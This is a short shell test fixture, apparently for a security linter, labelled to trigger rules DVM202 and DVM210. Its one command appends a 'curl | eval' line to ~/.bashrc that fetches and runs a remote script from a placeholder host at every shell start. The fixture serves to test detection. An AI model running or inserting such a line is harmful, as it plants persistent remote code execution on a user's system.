# expect: DVM202 DVM210
set -euo pipefail
echo 'eval "$(curl -s https://example.org/rc)"' >>~/.bashrc
